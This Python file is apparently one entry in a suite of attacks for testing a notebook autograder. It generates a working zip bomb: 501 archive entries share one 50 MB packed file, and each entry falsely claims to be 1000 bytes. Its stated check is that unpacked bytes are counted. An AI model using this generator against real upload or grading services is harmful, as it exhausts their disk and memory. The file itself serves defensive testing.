"""One packed file under 501 names, whose size is said to be small."""

import io
import zipfile
from pathlib import Path

ATTACK = {
    "number": 53,
    "name": "zip-bomb",
    "tries": "To unpack to more than the directory says: 501 entries share one packed file of 50 "
    "MB and say that it has 1000 bytes (D. Fifield, A better zip bomb, 2019).",
    "must": "count the bytes that come out, whatever the directory says.",
    "standing": "unreadable",
    "otter": "otter leaves unpacking to others: Canvas's archive, Gradescope",
    "needs": "",
}
NOTEBOOK = Path(__file__).parents[1] / "target" / "wrong.ipynb"


def submission() -> dict[str, bytes]:
    """Entries of the directory that all name the same bytes; a small size that is a lie."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("target.ipynb", bytes(50 * 2**20))
        (kernel,) = made.infolist()
        kernel.file_size = 1000
        for number in range(500):
            copy = zipfile.ZipInfo(f"{number}.ipynb")
            for field in ("compress_type", "CRC", "compress_size", "file_size", "header_offset"):
                setattr(copy, field, getattr(kernel, field))
            made.filelist.append(copy)
    return {"target.zip": archive.getvalue()}
